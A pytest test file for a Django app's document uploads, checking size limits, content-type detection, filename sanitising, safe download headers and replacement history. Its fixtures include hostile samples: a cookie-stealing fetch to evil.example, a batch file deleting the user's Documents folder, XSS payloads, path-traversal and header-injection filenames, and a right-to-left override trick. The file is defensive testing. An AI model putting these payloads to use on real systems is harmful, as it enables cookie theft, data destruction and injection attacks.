"""Documents through real multipart requests: the size limit while streaming, the type from the content and
the name together, safe names, downloads that cannot run in a browser, and replacements that keep the old file.

Every upload goes through the Django test client, so Django's MultiPartParser
and settings.FILE_UPLOAD_HANDLERS (SizeLimitUploadHandler first) do the work
they do in production.
"""

import hashlib
import io
import re
import struct
import zipfile
import zlib
from urllib.parse import quote, unquote

import pytest
from django.contrib.messages import get_messages
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from coordination import documents
from coordination.models import Document, Event
from coordination.services import agenda

from .agenda_support import add_item, attach
from .builders import in_english

# Pages are read in English, the msgids: stable while the Swedish text is being written.
pytestmark = pytest.mark.usefixtures("english")


MiB = 1024 * 1024
LIMIT_ERROR = "The file is larger than the limit of 1 MB."
TYPE_ERROR = (
    "Samråd accepts only these kinds of file: PDF, DOCX, XLSX, PPTX, ODT, ODS, ODP, PNG, JPEG, GIF, WebP, TXT or CSV."
)
HEX_NAME = re.compile(r"^[0-9a-f]{32}$")


@pytest.fixture(autouse=True)
def one_mib_limit(settings):
    settings.DOCUMENT_MAX_BYTES = MiB


@pytest.fixture
def item(meeting, kommun, kommun_coordinator):
    """An accepted item of the municipality's: its coordinator (the convener) attaches documents to it."""
    return add_item(
        meeting, kommun, kommun_coordinator, "Lokalt poliskontor i Gottsunda", accept_by=(kommun_coordinator, kommun)
    )


@pytest.fixture
def uploader(client, kommun_coordinator):
    client.force_login(kommun_coordinator)
    return client


def upload_url(item):
    return reverse("document_create", args=[item.meeting_id, item.pk])


def item_page(client, item):
    return client.get(reverse("agenda_item_detail", args=[item.meeting_id, item.pk])).content.decode()


def upload(client, url, name, content, content_type="application/octet-stream"):
    """What a browser sends: the CSRF token field first, then the file."""
    return client.post(
        url,
        {"csrfmiddlewaretoken": "unused-by-the-test-client", "file": SimpleUploadedFile(name, content, content_type)},
    )


def raw_upload(client, url, filename, content, content_type="text/plain"):
    """A multipart body written by hand, so that the file name arrives exactly as given (the test client
    would keep only its basename). The name is sent RFC 2231-encoded, as browsers may."""
    boundary = "SamradTestBoundary7f3a"
    head = (
        f"--{boundary}\r\n"
        'Content-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\nx\r\n'
        f"--{boundary}\r\n"
        f"Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''{quote(filename, safe='')}\r\n"
        f"Content-Type: {content_type}\r\n\r\n"
    )
    body = head.encode() + content + f"\r\n--{boundary}--\r\n".encode()
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def stored_files(folder):
    return sorted(folder.iterdir())


def downloaded(response):
    return b"".join(response.streaming_content)


# Files of every kind, built here.


def pdf():
    return (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


CONTENT_TYPES_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="{type}"/></Types>'
)
RELS_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="{part}"/></Relationships>'
)


def ooxml(part, main_type):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML.format(part=part, type=main_type))
        archive.writestr("_rels/.rels", RELS_XML.format(part=part))
        archive.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><document>Underlag för Gottsunda</document>')
    return buffer.getvalue()


def docx():
    return ooxml(
        "word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )


def xlsx():
    return ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def opendocument(mimetype):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>", compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>", compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def plain_zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hej")
    return buffer.getvalue()


def pptx():
    return ooxml(
        "ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    )


def jpeg():
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32 + b"\xff\xd9"


def gif():
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def webp():
    payload = b"WEBPVP8L" + struct.pack("<I", 10) + b"\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88"
    return b"RIFF" + struct.pack("<I", len(payload)) + payload


def zip_of(*names):
    """A zip archive that is no office document: a plain archive, a Java archive, an Android app."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, b"\xca\xfe\xba\xbe")
    return buffer.getvalue()


def exe():
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 48
        + b"This program cannot be run in DOS mode.\r\n"
    )


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>alert(document.cookie)</script></body></html>\n"
)
TEXT = "Underlag för dialogen\n\nÅtgärder i Gottsunda: lokaler, bemanning, tidplan. Väl mött på mötet – åäö ÅÄÖ.\n".encode()

CSV = "Part;Ärende;Tid\nUppsala kommun;Lokaler;10:00\nPolisen;Bemanning;10:30\n".encode()

ACCEPTED = [
    # uploaded name, content, what the browser claims, the type of the content and the name together
    ("underlag.pdf", pdf(), "application/pdf", "application/pdf"),
    (
        "underlag.docx",
        docx(),
        "application/octet-stream",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "budget.xlsx",
        xlsx(),
        "application/octet-stream",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    (
        "bildspel.pptx",
        pptx(),
        "application/octet-stream",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    (
        "underlag.odt",
        opendocument("application/vnd.oasis.opendocument.text"),
        "application/octet-stream",
        "application/vnd.oasis.opendocument.text",
    ),
    (
        "budget.ods",
        opendocument("application/vnd.oasis.opendocument.spreadsheet"),
        "application/octet-stream",
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    (
        "bildspel.odp",
        opendocument("application/vnd.oasis.opendocument.presentation"),
        "application/octet-stream",
        "application/vnd.oasis.opendocument.presentation",
    ),
    ("karta.png", png(), "image/png", "image/png"),
    ("foto.jpg", jpeg(), "image/jpeg", "image/jpeg"),
    ("FOTO.JPEG", jpeg(), "image/jpeg", "image/jpeg"),  # the ending in any case
    ("skiss.gif", gif(), "image/gif", "image/gif"),
    ("skiss.webp", webp(), "image/webp", "image/webp"),
    ("anteckningar.txt", TEXT, "text/plain", "text/plain"),
    ("deltagare.csv", CSV, "text/csv", "text/csv"),
]

# Content that is no allowed kind, whatever the name.
REFUSED = [
    ("report.pdf", exe(), "application/pdf"),
    ("setup.exe", exe(), "application/x-msdownload"),
    ("notes.pdf", HTML, "application/pdf"),
    ("notes.txt", HTML, "text/plain"),
    ("notes.txt", b"   \n<HTML><body onload=alert(1)>", "text/plain"),
    ("bild.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/png"),
    ("bild.txt", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "text/plain"),
    ("underlag.docx", plain_zip(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("arkiv.zip", plain_zip(), "application/zip"),
    ("program.jar", zip_of("META-INF/MANIFEST.MF", "se/Main.class"), "application/java-archive"),
    ("app.apk", zip_of("AndroidManifest.xml", "classes.dex"), "application/vnd.android.package-archive"),
    ("data.txt", b"binary\x00\x01\x02 data", "text/plain"),
    ("latin1.txt", "Åtgärder".encode("latin-1"), "text/plain"),
]

# Content of an allowed kind under a name that does not end as that kind does: what a browser or the
# desktop would run or render, however plain the text inside (issue 13).
# What the refusal says the content is, and how the name must end.
AS_TEXT = ("TXT or CSV", ".txt or .csv")
AS_PDF = ("PDF", ".pdf")
AS_XLSX = ("XLSX", ".xlsx")

MISNAMED = [
    ("stats.js", b"fetch('https://evil.example/?c=' + document.cookie)\n", "text/javascript", AS_TEXT),
    ("rensa.bat", b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", "application/x-bat", AS_TEXT),
    ("hej.vbs", b'CreateObject("WScript.Shell").Run "calc.exe"\r\n', "text/vbscript", AS_TEXT),
    ("app.hta", b"Tryck pa knappen for att uppdatera\r\n", "application/hta", AS_TEXT),
    ("lank.url", b"[InternetShortcut]\r\nURL=https://evil.example/\r\n", "text/plain", AS_TEXT),
    ("setup.exe", b"Just some text, honestly.\n", "application/x-msdownload", AS_TEXT),
    ("sida.html", b"Plain words that a browser would render as a page.\n", "text/html", AS_TEXT),
    ("sida.htm", b"Plain words.\n", "text/html", AS_TEXT),
    ("bild.svg", b"Plain words.\n", "image/svg+xml", AS_TEXT),
    ("sida.xhtml", b"Plain words.\n", "application/xhtml+xml", AS_TEXT),
    ("rapport.exe", pdf(), "application/pdf", AS_PDF),  # a PDF renamed .exe
    ("rapport.pdf", TEXT, "application/pdf", AS_TEXT),  # a text file renamed .pdf
    ("kalkyl.pdf", xlsx(), "application/pdf", AS_XLSX),
    ("skannad-sida", pdf(), "application/octet-stream", AS_PDF),  # no ending at all
    ("\u202etxt.exe", TEXT, "text/plain", AS_TEXT),  # right-to-left override: shows as exe.txt
]


@pytest.mark.parametrize("name, content, claimed, detected", ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_an_allowed_file_is_stored_under_a_generated_name_with_the_type_of_its_content(
    uploader, item, documents_dir, name, content, claimed, detected
):
    response = upload(uploader, upload_url(item), name, content, claimed)

    assert response.status_code == 302, response.context["form"].errors if response.context else response
    document = Document.objects.get()
    assert (document.original_name, document.content_type, document.size) == (name, detected, len(content))
    assert document.sha256 == hashlib.sha256(content).hexdigest()
    [path] = stored_files(documents_dir)
    assert HEX_NAME.match(path.name) and path.name == document.file.name
    assert path.read_bytes() == content


@pytest.mark.parametrize("name, content, claimed", REFUSED, ids=[f"{r[0]}-{i}" for i, r in enumerate(REFUSED)])
def test_a_file_whose_content_is_not_allowed_is_refused_whatever_its_name_says(
    uploader, item, documents_dir, name, content, claimed
):
    response = upload(uploader, upload_url(item), name, content, claimed)

    assert response.status_code == 200
    assert response.context["form"].errors == {"file": [TYPE_ERROR + " This file's content is none of them."]}
    assert not Document.objects.exists()
    assert stored_files(documents_dir) == []


@pytest.mark.parametrize("name, content, claimed, said", MISNAMED, ids=[f"{m[0]}-{i}" for i, m in enumerate(MISNAMED)])
def test_a_file_whose_name_does_not_end_as_its_content_is_refused_with_the_ending_to_give_it(
    uploader, item, documents_dir, name, content, claimed, said
):
    response = raw_upload(uploader, upload_url(item), name, content, claimed)

    assert response.status_code == 200
    kind, endings = said
    assert response.context["form"].errors == {
        "file": [
            f"The file's content is {kind}, but its name does not end in {endings}. "
            "Rename the file so that it does, and add it again."
        ]
    }
    assert not Document.objects.exists()
    assert stored_files(documents_dir) == []


def test_the_refusals_are_in_plain_swedish(item, documents_dir, kommun_coordinator):
    client = Client()
    client.force_login(kommun_coordinator)

    misnamed = raw_upload(client, upload_url(item), "stats.js", b"alert(1)\n", "text/javascript")
    archive = upload(client, upload_url(item), "arkiv.zip", plain_zip(), "application/zip")

    assert misnamed.context["form"].errors["file"] == [
        "Filens innehåll är TXT eller CSV, men namnet slutar inte på .txt eller .csv. "
        "Byt namn på filen så att det gör det och lägg till den igen."
    ]
    assert archive.context["form"].errors["file"] == [
        "Samråd tar bara emot de här filtyperna: PDF, DOCX, XLSX, PPTX, ODT, ODS, ODP, PNG, JPEG, GIF, WebP, "
        "TXT eller CSV. Den här filens innehåll är ingen av dem."
    ]


@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbf<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        b"<!-- saved from url=(0014)about:internet -->\r\n<html><body><script>alert(1)</script></body></html>",
    ],
    ids=["after-a-byte-order-mark", "after-a-comment"],
)
def test_an_html_file_is_refused_also_after_a_byte_order_mark_or_a_comment(uploader, item, documents_dir, content):
    response = upload(uploader, upload_url(item), "notes.txt", content, "text/plain")

    assert response.status_code == 200
    assert not Document.objects.exists()


def test_the_allowed_type_is_where_the_content_and_the_name_agree():
    """The pure function, on the same files."""
    for name, content, _claimed, detected in ACCEPTED:
        assert documents.allowed_type(SimpleUploadedFile(name, content), name) == detected, name
    for name, content, _claimed, *_said in REFUSED + MISNAMED:
        with pytest.raises(documents.NotAllowed):
            documents.allowed_type(SimpleUploadedFile(name, content), documents.display_name(name))


# The size limit, while the file streams in.


def csrf_client(user):
    """A client that checks CSRF as production does: the token comes from the form page."""
    client = in_english(Client(enforce_csrf_checks=True))
    client.force_login(user)
    return client


def csrf_token(client, url):
    page = client.get(url).content.decode()
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)


def test_a_file_over_the_limit_is_refused_with_the_limit_in_mb_and_nothing_is_stored(
    item, documents_dir, kommun_coordinator
):
    client = csrf_client(kommun_coordinator)
    url = upload_url(item)
    token = csrf_token(client, url)

    response = client.post(
        url, {"csrfmiddlewaretoken": token, "file": SimpleUploadedFile("stor.txt", b"a" * (MiB + 1))}
    )

    assert response.status_code == 200
    assert LIMIT_ERROR in response.content.decode()
    assert response.context["form"].errors == {"file": [LIMIT_ERROR]}
    assert stored_files(documents_dir) == []
    assert not Document.objects.exists()
    assert not Event.objects.filter(action=Event.Action.DOCUMENT_ADDED).exists()


def test_a_file_of_exactly_the_limit_is_accepted(item, documents_dir, kommun_coordinator):
    client = csrf_client(kommun_coordinator)
    url = upload_url(item)
    token = csrf_token(client, url)

    response = client.post(url, {"csrfmiddlewaretoken": token, "file": SimpleUploadedFile("precis.txt", b"a" * MiB)})

    assert response.status_code == 302
    assert Document.objects.get().size == MiB
    [path] = stored_files(documents_dir)
    assert path.stat().st_size == MiB


def test_the_form_tells_the_limit_before_the_upload(uploader, item):
    assert "at most 1 MB" in uploader.get(upload_url(item)).content.decode()


def test_the_limit_stops_the_upload_while_it_streams_before_it_reaches_a_temporary_file(
    uploader, item, documents_dir, settings, monkeypatch
):
    """Above FILE_UPLOAD_MAX_MEMORY_SIZE Django spools an upload to a temporary file chunk by chunk.

    The spy counts what reaches that temporary file and what the size limit
    handler itself saw: if the limit were checked only once the upload was
    complete, the temporary file would get all 4 MiB and the handler would see
    every chunk.
    """
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
    size = 4 * MiB
    seen = {"limit handler": 0, "temporary file": 0, "chunks": 0}
    limit_receive = documents.SizeLimitUploadHandler.receive_data_chunk
    temporary_receive = TemporaryFileUploadHandler.receive_data_chunk

    def spy_limit(self, raw_data, start):
        seen["limit handler"] += len(raw_data)
        seen["chunks"] += 1
        return limit_receive(self, raw_data, start)

    def spy_temporary(self, raw_data, start):
        seen["temporary file"] += len(raw_data)
        return temporary_receive(self, raw_data, start)

    monkeypatch.setattr(documents.SizeLimitUploadHandler, "receive_data_chunk", spy_limit)
    monkeypatch.setattr(TemporaryFileUploadHandler, "receive_data_chunk", spy_temporary)

    response = upload(uploader, upload_url(item), "stor.txt", b"a" * size, "text/plain")

    assert LIMIT_ERROR in response.content.decode()
    chunk = documents.SizeLimitUploadHandler.chunk_size
    assert 0 < seen["temporary file"] <= MiB  # the temporary file was in use, and stopped at the limit
    assert seen["limit handler"] <= MiB + chunk  # the first chunk past the limit ends it
    assert seen["chunks"] < size // chunk
    assert stored_files(documents_dir) == []
    assert not Document.objects.exists()


def test_a_file_over_the_limit_sent_with_the_csrf_token_in_a_header_gets_the_message_not_a_crash(
    item, documents_dir, kommun_coordinator
):
    client = csrf_client(kommun_coordinator)
    url = upload_url(item)
    token = csrf_token(client, url)

    response = client.post(url, {"file": SimpleUploadedFile("stor.txt", b"a" * (MiB + 1))}, HTTP_X_CSRFTOKEN=token)

    assert response.status_code == 200
    assert LIMIT_ERROR in response.content.decode()
    assert not Document.objects.exists()


# Names: kept as text only, made safe, shown escaped.

NAMES = [
    # as uploaded, as stored and shown
    ("../../etc/passwd.txt", "passwd.txt"),
    ("C:\\evil\\x.txt", "x.txt"),
    ("Svar \"slutligt\" & 'nytt'.txt", "Svar \"slutligt\" & 'nytt'.txt"),
    ("rapport\x07\x1b[31m\t.txt", "rapport[31m.txt"),
    ("<b onmouseover=alert(1)>x.txt", "<b onmouseover=alert(1)>x.txt"),
    ("  ..dold.txt. ", "dold.txt"),
    ("Underlag för Gottsunda – utkast.txt", "Underlag för Gottsunda – utkast.txt"),
]


@pytest.mark.parametrize("sent, stored", NAMES, ids=[f"name-{i}" for i in range(len(NAMES))])
def test_an_uploaded_name_is_stored_as_a_safe_display_name_and_shown_escaped(
    uploader, item, documents_dir, sent, stored
):
    response = raw_upload(uploader, upload_url(item), sent, TEXT)

    assert response.status_code == 302
    document = Document.objects.get()
    assert document.original_name == stored
    assert HEX_NAME.match(document.file.name)
    assert [p.name for p in stored_files(documents_dir)] == [document.file.name]
    page = item_page(uploader, item)
    assert escape(stored) in page
    if "<" in stored:
        assert "<b onmouseover" not in page


def test_a_name_of_300_characters_is_shortened_keeping_its_extension(uploader, item, documents_dir):
    response = raw_upload(uploader, upload_url(item), "a" * 296 + ".txt", TEXT)

    assert response.status_code == 302
    name = Document.objects.get().original_name
    assert len(name) <= 200 and name.endswith(".txt") and set(name[:-4]) == {"a"}
    assert name in item_page(uploader, item)


def test_the_display_name_function_drops_paths_and_control_characters():
    assert documents.display_name("../../etc/passwd.txt") == "passwd.txt"
    assert documents.display_name("C:\\evil\\x.txt") == "x.txt"
    assert documents.display_name("a\x00b\u202ec.txt") == "abc.txt"
    assert documents.display_name("") == "dokument"
    assert documents.display_name("...") == "dokument"
    long = documents.display_name("b" * 300 + ".docx")
    assert len(long) <= 200 and long.endswith(".docx")


# Downloads.

# An attachment with an ASCII stand-in name a client cannot misread, and the full name in RFC 5987 form.
DISPOSITION = re.compile(r"""^attachment; filename="([A-Za-z0-9 ()_.,+-]+)"; filename\*=utf-8''([A-Za-z0-9%._~-]+)$""")


def saved_as(response):
    """The (stand-in, full) names a browser saves the download under, after checking the header's form."""
    match = DISPOSITION.match(response["Content-Disposition"])
    assert match, response["Content-Disposition"]
    return match.group(1), unquote(match.group(2))


def download(client, document):
    return client.get(reverse("document_download", args=[document.agenda_item.meeting_id, document.pk]))


def test_a_download_is_an_attachment_that_is_never_sniffed_with_the_bytes_and_checksum_of_the_upload(
    uploader, item, documents_dir, polis_member
):
    content = pdf()
    upload(uploader, upload_url(item), "underlag.pdf", content, "application/pdf")
    document = Document.objects.get()
    reader = in_english(Client())
    reader.force_login(polis_member)  # another party: the item's documents are for every party

    response = download(reader, document)

    assert response.status_code == 200
    assert response["Content-Disposition"] == "attachment; filename=\"underlag.pdf\"; filename*=utf-8''underlag.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert downloaded(response) == content
    page = item_page(reader, item)
    checksum = re.search(r'<code class="checksum">([0-9a-f]{64})</code>', page).group(1)
    assert checksum == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize("name, content, claimed, detected", ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_a_download_has_the_detected_content_type_not_the_claimed_one(
    uploader, item, documents_dir, name, content, claimed, detected
):
    upload(uploader, upload_url(item), name, content, "text/html")
    document = Document.objects.get()

    response = download(uploader, document)

    assert response["Content-Type"] == detected
    assert saved_as(response)[1] == name
    assert downloaded(response) == content


# Names as they may be stored: from uploads before names were cleaned, or written by hand. As stored, what the
# ASCII stand-in is, and the full name saved.
STORED_NAMES = [
    ('Svar "slutligt" åäö.txt', "Svar _slutligt_ aao.txt", 'Svar "slutligt" åäö.txt'),
    ('a"; filename="evil.html.txt', "a__ filename__evil.html.txt", 'a"; filename="evil.html.txt'),
    ("rapport\r\nSet-Cookie: x=1.txt", "rapportSet-Cookie_ x_1.txt", "rapportSet-Cookie: x=1.txt"),
    ("../../etc/passwd.txt", "passwd.txt", "passwd.txt"),
    ("..\\..\\boot.ini.txt", "boot.ini.txt", "boot.ini.txt"),
    ("Åtgärder.txt", "Atgarder.txt", "Åtgärder.txt"),
    ("Заметки.txt", "dokument.txt", "Заметки.txt"),
    # As long as the column holds (255): the download name is cut to 200 all the same.
    ("å" * 250 + ".txt", "a" * 190 + ".txt", "å" * 190 + ".txt"),
    ("evil.html", "evil.html.txt", "evil.html.txt"),
    ("stats.js", "stats.js.txt", "stats.js.txt"),
    ("skannad-sida", "skannad-sida.txt", "skannad-sida.txt"),
]


@pytest.mark.parametrize(
    "stored, stand_in, full", STORED_NAMES, ids=[f"stored-name-{i}" for i in range(len(STORED_NAMES))]
)
def test_a_download_is_saved_under_a_safe_name_ending_as_its_type_does(
    uploader, item, documents_dir, kommun, kommun_coordinator, stored, stand_in, full
):
    document = attach(item, kommun, kommun_coordinator, stored, TEXT)

    response = download(uploader, document)

    assert response.status_code == 200
    assert saved_as(response) == (stand_in, full)
    assert response["Content-Type"] == "text/plain"
    assert downloaded(response) == TEXT


def test_a_stored_document_of_a_type_no_longer_accepted_still_downloads_as_bytes_to_save(
    uploader, item, documents_dir, kommun, kommun_coordinator
):
    """A document stored before the allow-list (here a web page) stays available to the parties, who may need
    it for the record, but never as a page: as bytes under a name no browser or desktop runs."""
    document = attach(item, kommun, kommun_coordinator, "karta.html", HTML, content_type="text/html")

    response = download(uploader, document)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert saved_as(response) == ("karta.html.bin", "karta.html.bin")
    assert downloaded(response) == HTML
    assert ">karta.html</a>" in item_page(uploader, item)  # the page shows the name it was given


# Replacing a document keeps the old one.


def replace_url(document):
    return reverse("document_replace", args=[document.agenda_item.meeting_id, document.pk])


def test_replacing_a_document_keeps_the_old_one_downloadable_and_marked(uploader, item, documents_dir, polis_member):
    upload(uploader, upload_url(item), "underlag-v1.txt", b"Version ett\n", "text/plain")
    old = Document.objects.get()

    response = upload(uploader, replace_url(old), "underlag-v2.txt", b"Version tva\n", "text/plain")

    assert response.status_code == 302
    old.refresh_from_db()
    new = Document.objects.exclude(pk=old.pk).get()
    assert old.replaced_at is not None and new.replaced_at is None
    assert new.replaces == old
    assert list(Document.objects.current()) == [new]
    assert len(stored_files(documents_dir)) == 2
    [event] = Event.objects.filter(action=Event.Action.DOCUMENT_REPLACED)
    assert (event.before["name"], event.after["name"]) == ("underlag-v1.txt", "underlag-v2.txt")
    reader = in_english(Client())
    reader.force_login(polis_member)
    page = item_page(reader, item)
    assert "underlag-v2.txt" in page and "underlag-v1.txt" not in page
    old_download = reader.get(reverse("document_download", args=[item.meeting_id, old.pk]))
    assert old_download.status_code == 200 and downloaded(old_download) == b"Version ett\n"


def test_a_document_already_replaced_cannot_be_replaced_again(uploader, item, documents_dir):
    upload(uploader, upload_url(item), "v1.txt", b"Ett\n", "text/plain")
    old = Document.objects.get()
    upload(uploader, replace_url(old), "v2.txt", b"Tva\n", "text/plain")

    response = upload(uploader, replace_url(old), "v3.txt", b"Tre\n", "text/plain")

    assert response.status_code == 302
    assert Document.objects.count() == 2
    assert len(stored_files(documents_dir)) == 2
    last = list(get_messages(response.wsgi_request))[-1]
    assert (last.level_tag, str(last)) == ("error", "This document has already been replaced by a newer version.")


def test_a_replaced_document_of_a_draft_position_stays_hidden_from_other_parties(
    client, item, documents_dir, polisen, polis_member, kommun_member
):
    position = agenda.save_position(item=item, party=polisen, by=polis_member, text="Utkast", base_version=0)
    client.force_login(polis_member)
    upload(
        client,
        reverse("position_document_create", args=[item.meeting_id, position.pk]),
        "p1.txt",
        b"Ett\n",
        "text/plain",
    )
    old = Document.objects.get()
    assert old.position == position
    upload(client, replace_url(old), "p2.txt", b"Tva\n", "text/plain")
    new = Document.objects.exclude(pk=old.pk).get()
    assert new.position == position and new.party == polisen

    client.force_login(kommun_member)
    for document in (old, new):
        assert client.get(reverse("document_download", args=[item.meeting_id, document.pk])).status_code == 404
    client.force_login(polis_member)
    for document in (old, new):
        assert client.get(reverse("document_download", args=[item.meeting_id, document.pk])).status_code == 200


def test_a_replacement_is_logged_for_the_party_the_replacer_acts_for(
    client, meeting, documents_dir, kommun, kommun_coordinator, polisen, polis_coordinator, polis_member
):
    item = add_item(meeting, polisen, polis_coordinator, "Polisens punkt", accept_by=(kommun_coordinator, kommun))
    client.force_login(polis_member)
    upload(client, upload_url(item), "polisens.txt", b"Polisens underlag\n", "text/plain")
    document = Document.objects.get()
    client.force_login(kommun_coordinator)  # the convener may replace any document on the agenda

    response = upload(client, replace_url(document), "kommunens.txt", b"Kommunens underlag\n", "text/plain")

    assert response.status_code == 302
    [event] = Event.objects.filter(action=Event.Action.DOCUMENT_REPLACED)
    assert event.actor == kommun_coordinator
    assert event.party == kommun


# Where the files go.


def test_documents_go_to_settings_documents_root_under_their_generated_name(
    settings, tmp_path, meeting, kommun, kommun_coordinator
):
    settings.DOCUMENTS_ROOT = tmp_path / "elsewhere"
    item = add_item(meeting, kommun, kommun_coordinator, "Punkt")

    document = agenda.attach_document(
        item=item,
        party=kommun,
        by=kommun_coordinator,
        upload=ContentFile(b"x\n", name="x.txt"),
        content_type="text/plain",
        sha256=hashlib.sha256(b"x\n").hexdigest(),
    )

    assert [p.name for p in (tmp_path / "elsewhere").iterdir()] == [document.file.name]
    assert HEX_NAME.match(document.file.name)
    with pytest.raises(NotImplementedError):
        _ = document.file.url  # no public URL: only the download view serves it
